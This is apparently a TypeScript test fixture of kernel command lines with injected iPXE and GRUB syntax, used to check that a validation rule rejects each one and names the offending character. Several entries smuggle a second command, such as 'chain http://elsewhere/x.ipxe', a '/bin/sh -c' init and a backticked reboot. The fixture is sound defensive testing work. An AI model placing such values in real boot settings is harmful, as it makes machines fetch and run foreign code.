// Kernel command lines that carry loader syntax, shared by the rule's, the config's, the API's
// and the renderers' tests.

/** The reviewed payload: accepted by the API and served, it ran a foreign script. */
export const CHAIN_PAYLOAD = 'quiet ; chain http://elsewhere/x.ipxe ; #';

/** The payload and its variants, each with the character the rule must name. */
export const HOSTILE_CMDLINES: ReadonlyArray<[string, string, string]> = [
  ['the reviewed payload', CHAIN_PAYLOAD, '";" (U+003B, character 7)'],
  ['a line break', 'quiet\nchain http://elsewhere/x.ipxe', 'line feed (U+000A) at character 6'],
  ['a carriage return', 'quiet\rchain http://elsewhere/x.ipxe', 'carriage return (U+000D) at character 6'],
  ['"||"', 'quiet || chain http://elsewhere/x.ipxe', '"|" (U+007C, character 7)'],
  ['"&&"', 'quiet && chain http://elsewhere/x.ipxe', '"&" (U+0026, character 7)'],
  ['a setting', 'console=${console} quiet', '"$" (U+0024, character 9)'],
  ['a comment', 'quiet #', '"#" (U+0023, character 7)'],
  ['a line-joining backslash', 'quiet \\', '"\\\\" (U+005C, character 7)'],
  ['a tab', 'quiet\trd.debug', 'tab (U+0009) at character 6'],
  ['a NUL', 'quiet\0chain', 'NUL (U+0000) at character 6'],
  ['GRUB quoting', "init='/bin/sh -c x'", '"\'" (U+0027, character 6)'],
  ['kernel quoting', 'dyndbg="file x +p"', '"\\"" (U+0022, character 8)'],
  ['a GRUB block', 'a{b}', '"{" (U+007B, character 2)'],
  ['a redirection', 'a>b', '">" (U+003E, character 2)'],
  ['a backtick', 'a`reboot`', '"`" (U+0060, character 2)'],
  ['non-ASCII', 'quiet hostname=nœud', '"œ" (U+0153) at character 17'],
];
